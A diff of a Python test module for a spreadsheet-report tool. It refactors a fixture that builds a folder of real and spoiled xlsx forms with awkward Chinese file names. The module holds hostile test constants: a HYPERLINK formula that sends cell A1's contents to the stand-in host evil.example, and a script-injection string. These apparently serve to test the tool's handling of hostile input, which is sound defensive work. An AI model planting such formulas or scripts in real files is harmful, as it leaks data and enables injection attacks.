@@ -31,6 +31,7 @@ from perfxl.report.report import judge_book
 from tests import bureau
 from tests.lint_xlsx import faults
 from tests.office import Office, ooxml_errors, png
+from tests.support.forms import source
 
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
 SCRIPT = "<script>alert(1)</script>"
@@ -41,13 +42,13 @@ def run(*arguments: object) -> Result:
 
 
 @pytest.fixture(scope="module")
-def folder(shared: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
+def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
     """The three real forms, some made ones, hostile texts, awkward file names, a file that is none."""
     made = tmp_path_factory.mktemp("ledger") / "报送"
     for number in (1, 2, 3):
         path = made / "虹桥" / f"hongqiao-2023-{number}.xlsx"
         path.parent.mkdir(parents=True, exist_ok=True)
-        path.write_bytes(filled((shared / "forms" / f"{path.stem}.json").read_text("utf-8")))
+        path.write_bytes(filled(source(path.stem)))
     form = bureau.clean(0)
     for name, spoiled in {
         "空 格 50%/#1 [终稿].xlsx": form,
